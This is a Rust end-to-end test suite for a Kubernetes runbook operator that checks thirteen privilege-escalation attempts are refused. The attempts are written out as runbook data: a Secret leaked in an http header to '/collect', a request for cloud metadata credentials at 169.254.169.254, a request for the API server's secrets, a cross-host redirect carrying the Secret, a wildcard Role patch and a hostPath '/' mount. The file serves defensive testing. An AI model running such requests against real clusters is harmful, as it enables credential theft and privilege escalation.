//! The escalation matrix: people with ordinary namespace rights try, through each kind of
//! step and the admission path, to make the operator do what their own RBAC (or that of an
//! identity they may use) refuses. Every attempt must be refused, with a message naming why,
//! and nothing may reach what it aimed at; the same runbooks succeed once the identity they
//! act as holds the rights (the controls). The table of attempts is printed
//! (`cargo test --test e2e escalation -- --include-ignored --nocapture`).
//!
//! People (users the suite's admin identity impersonates), all in namespace A:
//! - `alice`: Kubernetes' built-in `edit` plus the runbook-operator kinds (what a team member
//!   usually holds); `edit` lets her impersonate A's ServiceAccounts, so she may name `runner`.
//! - `bob`: the runbook-operator kinds and the chart's approver role, nothing else: no
//!   Secrets, no impersonation.
//! - `carol`: the approver role only.
//!
//! Identities: `default` (no rights: the lockdown default) and `runner` (the suite's runner
//! rules: Jobs, workloads, Secrets get/patch, plus patch on Roles, so that what stops a
//! guarded patch is the operator's guard and not RBAC).

use std::fmt::Write as _;

use k8s_openapi::api::core::v1::{Pod, Secret};
use k8s_openapi::api::rbac::v1::Role;
use kube::Client;
use kube::api::{Api, ListParams, Patch, PatchParams, PostParams};
use runbook_operator::runbook::Runbook;
use runbook_operator::runbook_run::{RunPhase, RunbookRun};
use runbook_operator::well_known::APPROVE;
use serde_json::json;

use crate::egress::{Server, api_server_url, finished, run, runbook};
use crate::support::{RUNNER_RULES, TestNamespace, client_as, entry};

/// The chart's approver ClusterRole (release `runbook-operator`, as `make test` installs it).
const APPROVER_ROLE: &str = "runbook-operator-approver";

/// One row of the matrix.
struct Attempt {
    what: &'static str,
    who: &'static str,
    refused_by: &'static str,
    /// What the refusal said (first line, shortened).
    message: String,
    /// Whether the attempt reached what it aimed at.
    escalated: bool,
}

fn short(message: &str) -> String {
    let line = message.lines().next().unwrap_or_default();
    let mut out: String = line.chars().take(150).collect();
    if line.chars().count() > 150 {
        out.push('…');
    }
    out
}

/// The API server's refusal as "<code> <message>", or "accepted".
fn refusal<T>(result: &Result<T, kube::Error>) -> Option<String> {
    match result {
        Ok(_) => None,
        Err(kube::Error::Api(status)) => Some(format!("{} {}", status.code, status.message)),
        Err(other) => Some(other.to_string()),
    }
}

fn yaml<T: serde::de::DeserializeOwned>(text: &str) -> T {
    serde_norway::from_str(text).unwrap_or_else(|e| panic!("{e}: {text}"))
}

async fn create_runbook(client: &Client, ns: &str, text: &str) -> Result<Runbook, kube::Error> {
    Api::<Runbook>::namespaced(client.clone(), ns)
        .create(&PostParams::default(), &yaml(text))
        .await
}

async fn create_run(client: &Client, ns: &str, text: &str) -> Result<RunbookRun, kube::Error> {
    Api::<RunbookRun>::namespaced(client.clone(), ns)
        .create(&PostParams::default(), &yaml(text))
        .await
}

/// The step's failure reason and message, once the run has finished.
async fn step_failure(ns: &TestNamespace, run_name: &str, step: &str) -> (String, String) {
    let r = finished(ns, run_name).await;
    let e = entry(&r, step);
    (
        e.outputs.get("reason").cloned().unwrap_or_default(),
        e.message.clone().unwrap_or_default(),
    )
}

async fn secret_value(ns: &TestNamespace, name: &str, key: &str) -> Vec<u8> {
    let secret = ns.api::<Secret>().get(name).await.expect("get secret");
    secret
        .data
        .and_then(|d| d.get(key).map(|v| v.0.clone()))
        .unwrap_or_default()
}

async fn waiting_at(ns: &TestNamespace, run_name: &str, step: &str) -> RunbookRun {
    ns.wait_for::<RunbookRun>(run_name, "waiting for approval", |r| {
        r.status.as_ref().is_some_and(|s| {
            s.phase == Some(RunPhase::WaitingForApproval) && s.current_step.as_deref() == Some(step)
        })
    })
    .await
}

#[tokio::test]
#[ignore = "needs the local cluster: make test"]
async fn nobody_gets_through_the_operator_what_their_rbac_refuses() {
    let mut ns = TestNamespace::without_runner("escalate").await;
    let other = TestNamespace::new("escalate-b").await;
    let a = ns.name.clone();
    let alice_name = format!("alice-{a}");
    let bob_name = format!("bob-{a}");
    let carol_name = format!("carol-{a}");
    ns.kubectl_ok(&[
        "label",
        "namespace",
        &a,
        "pod-security.kubernetes.io/enforce=baseline",
    ]);
    ns.apply(&format!(
        "apiVersion: v1\nkind: ServiceAccount\nmetadata: {{name: runner}}\n---\n\
         apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {{name: runner}}\nrules:{RUNNER_RULES}\
         - {{apiGroups: [rbac.authorization.k8s.io], resources: [roles], verbs: [get, patch]}}\n---\n\
         apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: runner}}\n\
         roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: runner}}\n\
         subjects: [{{kind: ServiceAccount, name: runner, namespace: {a}}}]\n---\n\
         apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {{name: ops-author}}\nrules:\n\
         - {{apiGroups: [ops.runbook.dev], resources: [runbooks, runbookruns, maintenancewindows, bluegreenreleases, backuppolicies], verbs: [get, list, watch, create, update, patch, delete]}}\n---\n\
         apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: ops-authors}}\n\
         roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: ops-author}}\n\
         subjects: [{{apiGroup: rbac.authorization.k8s.io, kind: User, name: {alice_name}}}, {{apiGroup: rbac.authorization.k8s.io, kind: User, name: {bob_name}}}]\n---\n\
         apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: editors}}\n\
         roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit}}\n\
         subjects: [{{apiGroup: rbac.authorization.k8s.io, kind: User, name: {alice_name}}}]\n---\n\
         apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: approvers}}\n\
         roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: {APPROVER_ROLE}}}\n\
         subjects: [{{apiGroup: rbac.authorization.k8s.io, kind: User, name: {bob_name}}}, {{apiGroup: rbac.authorization.k8s.io, kind: User, name: {carol_name}}}]\n---\n\
         apiVersion: v1\nkind: Secret\nmetadata: {{name: db-credentials}}\nstringData: {{password: s3cret-db}}\n---\n\
         apiVersion: v1\nkind: Secret\nmetadata: {{name: api-token, labels: {{ops.runbook.dev/rotatable: \"true\"}}}}\nstringData: {{token: old-token}}\n---\n\
         apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {{name: team-role}}\nrules: [{{apiGroups: [\"\"], resources: [configmaps], verbs: [get]}}]\n"
    ));
    let alice = client_as(&alice_name, &[]).await;
    let bob = client_as(&bob_name, &[]).await;
    let carol = client_as(&carol_name, &[]).await;
    let elsewhere = Server::start("").await;
    let away = elsewhere.base.replace("127.0.0.1", "localhost");
    let server = Server::start(&away).await;
    let api_server = api_server_url().await;
    ns.start_operator();

    let mut rows: Vec<Attempt> = Vec::new();
    let secret_header =
        "[{name: X-Db-Password, valueFrom: {secretKeyRef: {name: db-credentials, key: password}}}]";
    let leaked = |server: &Server| {
        server
            .requests("/collect")
            .iter()
            .chain(server.requests("/stolen").iter())
            .any(|r| r.headers.get("x-db-password").map(String::as_str) == Some("s3cret-db"))
    };

    // 1. Name a ServiceAccount one may not impersonate.
    let result = create_runbook(
        &bob,
        &a,
        "apiVersion: ops.runbook.dev/v1alpha1\nkind: Runbook\nmetadata: {name: as-runner}\nspec:\n  serviceAccountName: runner\n  steps: [{name: pause, sleep: {duration: 1s}}]\n",
    )
    .await;
    let message = refusal(&result).unwrap_or_default();
    assert!(message.contains("impersonate"), "{message}");
    rows.push(Attempt {
        what: "name serviceAccountName: runner (no impersonate right)",
        who: "bob",
        refused_by: "admission: ValidatingAdmissionPolicy runbook-operator-identity",
        message: short(&message),
        escalated: result.is_ok(),
    });

    // 2. Read a Secret through an http header, acting as the lockdown default.
    let leak = runbook(
        "leak",
        &format!(
            "  - {{name: send, http: {{url: \"{}/collect\", headers: {secret_header}}}}}",
            server.base
        ),
    );
    create_runbook(&bob, &a, &leak)
        .await
        .expect("bob may create a Runbook that names no ServiceAccount");
    create_run(&bob, &a, &run("leak-1", "leak"))
        .await
        .expect("bob may start it");
    let (reason, message) = step_failure(&ns, "leak-1", "send").await;
    assert_eq!(reason, "Forbidden", "{message}");
    assert!(
        message.contains(&format!("system:serviceaccount:{a}:default"))
            && message.contains("secrets"),
        "{message}"
    );
    rows.push(Attempt {
        what: "read Secret db-credentials into an http header (identity: default)",
        who: "bob",
        refused_by: "RBAC of the impersonated identity (step Forbidden)",
        message: short(&message),
        escalated: leaked(&server),
    });

    // 3-4. Patch a Secret and an RBAC object, as an identity whose RBAC would allow it.
    let guarded = "apiVersion: ops.runbook.dev/v1alpha1\nkind: Runbook\nmetadata: {name: guarded}\nspec:\n  serviceAccountName: runner\n  steps:\n  - {name: secret, onFailure: Continue, patch: {target: {apiVersion: v1, kind: Secret, name: db-credentials}, type: merge, patch: {stringData: {password: mine}}}}\n  - {name: role, onFailure: Continue, patch: {target: {apiVersion: rbac.authorization.k8s.io/v1, kind: Role, name: team-role}, type: merge, patch: {rules: [{apiGroups: [\"*\"], resources: [\"*\"], verbs: [\"*\"]}]}}}\n  - {name: rotate, onFailure: Continue, rotateSecret: {secret: db-credentials, key: password}}\n";
    create_runbook(&alice, &a, guarded)
        .await
        .expect("alice (edit) may name runner");
    create_run(&alice, &a, &run("guarded-1", "guarded"))
        .await
        .expect("alice may start it");
    let r = finished(&ns, "guarded-1").await;
    for (step, what) in [
        ("secret", "patch Secret db-credentials"),
        ("role", "patch Role team-role to grant *"),
    ] {
        let e = entry(&r, step);
        let message = e.message.clone().unwrap_or_default();
        assert_eq!(
            e.outputs.get("reason").map(String::as_str),
            Some("PatchRefused"),
            "{message}"
        );
        rows.push(Attempt {
            what,
            who: "alice",
            refused_by: "operator: patch guard (--allow-patch-kinds)",
            message: short(&message),
            escalated: false,
        });
    }
    let password = secret_value(&ns, "db-credentials", "password").await;
    let role = ns.api::<Role>().get("team-role").await.expect("team-role");
    let role_widened = role
        .rules
        .unwrap_or_default()
        .iter()
        .any(|rule| rule.verbs.iter().any(|v| v == "*"));
    rows[2].escalated = password != b"s3cret-db";
    rows[3].escalated = role_widened;

    // 5. Rotate a Secret whose owner did not label it rotatable.
    let e = entry(&r, "rotate");
    let message = e.message.clone().unwrap_or_default();
    assert_eq!(
        e.outputs.get("reason").map(String::as_str),
        Some("NotRotatable"),
        "{message}"
    );
    rows.push(Attempt {
        what: "rotateSecret on unlabelled Secret db-credentials",
        who: "alice",
        refused_by: "operator: ops.runbook.dev/rotatable label",
        message: short(&message),
        escalated: secret_value(&ns, "db-credentials", "password").await != b"s3cret-db",
    });

    // 6. Act in a namespace where one has no rights.
    // An admin sets a Runbook up in namespace B.
    other.apply(&runbook(
        "there",
        "  - {name: pause, sleep: {duration: 1s}}",
    ));
    let result = create_run(&alice, &other.name, &run("there-1", "there")).await;
    let message = refusal(&result).unwrap_or_default();
    assert!(message.starts_with("403"), "{message}");
    rows.push(Attempt {
        what: "start a run in namespace B",
        who: "alice",
        refused_by: "RBAC of the requester (403 at create)",
        message: short(&message),
        escalated: result.is_ok(),
    });

    // 7. A hostPath Job where Pod Security (baseline) refuses it.
    let host_path = "apiVersion: ops.runbook.dev/v1alpha1\nkind: Runbook\nmetadata: {name: host}\nspec:\n  serviceAccountName: runner\n  steps:\n  - name: mount-host\n    timeout: 20s\n    job: {template: {spec: {backoffLimit: 0, template: {spec: {restartPolicy: Never, volumes: [{name: root, hostPath: {path: /}}], containers: [{name: c, image: registry.example.com/tool:1, volumeMounts: [{name: root, mountPath: /host}]}]}}}}}\n";
    create_runbook(&alice, &a, host_path)
        .await
        .expect("alice may create it");
    create_run(&alice, &a, &run("host-1", "host"))
        .await
        .expect("alice may start it");
    let (reason, message) = step_failure(&ns, "host-1", "mount-host").await;
    let job = entry(&finished(&ns, "host-1").await, "mount-host")
        .outputs
        .get("jobName")
        .cloned()
        .unwrap_or_default();
    let refused_pods = ns
        .wait_for_event(&job, "FailedCreate", "violates PodSecurity")
        .await;
    assert!(
        !job.is_empty(),
        "the step recorded its Job (step: {reason} {message})"
    );
    let pods = ns
        .api::<Pod>()
        .list(&ListParams::default().labels(&format!("job-name={job}")))
        .await
        .expect("list pods");
    rows.push(Attempt {
        what: "Job with a hostPath volume (namespace enforces baseline)",
        who: "alice",
        refused_by: "Pod Security admission (the Job's pods)",
        message: short(&refused_pods),
        escalated: !pods.items.is_empty(),
    });

    // 8-10. Outbound: cloud metadata, the API server, a redirect carrying a secret header.
    let outbound = format!(
        "apiVersion: ops.runbook.dev/v1alpha1\nkind: Runbook\nmetadata: {{name: outbound}}\nspec:\n  serviceAccountName: runner\n  steps:\n  - {{name: metadata, onFailure: Continue, http: {{url: \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"}}}}\n  - {{name: api-server, onFailure: Continue, http: {{url: \"{api_server}/api/v1/namespaces/{a}/secrets\"}}}}\n  - {{name: redirect, onFailure: Continue, http: {{url: \"{}/redirect-away\", followRedirects: true, headers: {secret_header}}}}}\n",
        server.base
    );
    create_runbook(&alice, &a, &outbound)
        .await
        .expect("alice may create it");
    create_run(&alice, &a, &run("outbound-1", "outbound"))
        .await
        .expect("alice may start it");
    let r = finished(&ns, "outbound-1").await;
    for (step, what, expected, by) in [
        (
            "metadata",
            "http to 169.254.169.254 (cloud metadata)",
            "EgressRefused",
            "operator: outbound fence",
        ),
        (
            "api-server",
            "http to the API server's address",
            "EgressRefused",
            "operator: outbound fence",
        ),
        (
            "redirect",
            "follow a redirect to another host with a Secret header",
            "RedirectRefused",
            "operator: outbound fence (same-host redirects only)",
        ),
    ] {
        let e = entry(&r, step);
        let message = e.message.clone().unwrap_or_default();
        assert_eq!(
            e.outputs.get("reason").map(String::as_str),
            Some(expected),
            "{step}: {message}"
        );
        rows.push(Attempt {
            what,
            who: "alice",
            refused_by: by,
            message: short(&message),
            escalated: step == "redirect" && (elsewhere.total() > 0 || leaked(&elsewhere)),
        });
    }

    // 11-13. Approvals.
    let gate = "apiVersion: ops.runbook.dev/v1alpha1\nkind: Runbook\nmetadata: {name: gate}\nspec:\n  steps:\n  - {name: go, approval: {message: ship it?, distinctFromRequester: true}}\n";
    create_runbook(&bob, &a, gate)
        .await
        .expect("bob may create it");
    let preset = format!(
        "apiVersion: ops.runbook.dev/v1alpha1\nkind: RunbookRun\nmetadata: {{name: gate-0, annotations: {{{APPROVE}: go}}}}\nspec: {{runbookRef: {{name: gate}}}}\n"
    );
    let result = create_run(&bob, &a, &preset).await;
    let message = refusal(&result).unwrap_or_default();
    assert!(message.contains("refused at creation"), "{message}");
    rows.push(Attempt {
        what: "create a run with the approval already set",
        who: "bob",
        refused_by: "admission: ValidatingAdmissionPolicy runbook-operator-runs",
        message: short(&message),
        escalated: result.is_ok(),
    });

    create_run(&bob, &a, &run("gate-1", "gate"))
        .await
        .expect("bob may start it");
    waiting_at(&ns, "gate-1", "go").await;
    let runs_as = |client: &Client| Api::<RunbookRun>::namespaced(client.clone(), &a);
    let approve = json!({"metadata": {"annotations": {APPROVE: "go"}}});
    let result = runs_as(&alice)
        .patch("gate-1", &PatchParams::default(), &Patch::Merge(&approve))
        .await;
    let message = refusal(&result).unwrap_or_default();
    assert!(message.contains("approve"), "{message}");
    rows.push(Attempt {
        what: "approve without the verb approve (edit only)",
        who: "alice",
        refused_by: "admission: ValidatingAdmissionPolicy runbook-operator-runs",
        message: short(&message),
        escalated: result.is_ok(),
    });

    runs_as(&bob)
        .patch("gate-1", &PatchParams::default(), &Patch::Merge(&approve))
        .await
        .expect("bob holds the verb, so admission lets the answer through");
    let refused = ns
        .wait_for_event("gate-1", "ApprovalRefused", &bob_name)
        .await;
    let r = waiting_at(&ns, "gate-1", "go").await;
    rows.push(Attempt {
        what: "approve one's own run (distinctFromRequester)",
        who: "bob",
        refused_by: "operator: approval.distinctFromRequester",
        message: short(&refused),
        escalated: r.status.as_ref().and_then(|s| s.phase) == Some(RunPhase::Succeeded),
    });

    // The controls: the same actions succeed when the identity or the person holds the rights.
    let mut controls = String::new();
    let granted = format!(
        "apiVersion: ops.runbook.dev/v1alpha1\nkind: Runbook\nmetadata: {{name: leak-granted}}\nspec:\n  serviceAccountName: runner\n  steps:\n  - {{name: send, http: {{url: \"{}/collect\", headers: {secret_header}}}}}\n  - {{name: rotate, rotateSecret: {{secret: api-token, key: token}}}}\n",
        server.base
    );
    create_runbook(&alice, &a, &granted)
        .await
        .expect("alice may create it");
    create_run(&alice, &a, &run("granted-1", "leak-granted"))
        .await
        .expect("alice may start it");
    let r = finished(&ns, "granted-1").await;
    assert_eq!(
        r.status.as_ref().and_then(|s| s.phase),
        Some(RunPhase::Succeeded),
        "{:#?}",
        r.status
    );
    assert!(
        leaked(&server),
        "the header reached the host written in the step"
    );
    assert_ne!(secret_value(&ns, "api-token", "token").await, b"old-token");
    writeln!(
        controls,
        "control: runner reads db-credentials into a header to the step's own host, and rotates labelled api-token: Succeeded"
    )
    .ok();
    runs_as(&carol)
        .patch("gate-1", &PatchParams::default(), &Patch::Merge(&approve))
        .await
        .expect("carol holds the verb");
    let r = ns
        .wait_for::<RunbookRun>("gate-1", "approved", |r| {
            r.status.as_ref().and_then(|s| s.phase) == Some(RunPhase::Succeeded)
        })
        .await;
    assert_eq!(
        entry(&r, "go").outputs.get("approvedBy"),
        Some(&carol_name),
        "the journal names the approver"
    );
    writeln!(
        controls,
        "control: carol (approver, not the creator) approves gate-1: Succeeded, approvedBy {carol_name}"
    )
    .ok();

    let mut table = String::from(
        "| # | attempt | who | refused by | message | escalated |\n|---|---|---|---|---|---|\n",
    );
    for (i, row) in rows.iter().enumerate() {
        writeln!(
            table,
            "| {} | {} | {} | {} | {} | {} |",
            i + 1,
            row.what,
            row.who,
            row.refused_by,
            row.message.replace('|', "\\|"),
            if row.escalated { "YES" } else { "no" }
        )
        .ok();
    }
    let escalations = rows.iter().filter(|r| r.escalated).count();
    println!(
        "{table}\n{controls}attempts: {}, successful escalations: {escalations}",
        rows.len()
    );
    assert_eq!(escalations, 0, "{table}");
    assert_eq!(rows.len(), 13, "{table}");
}
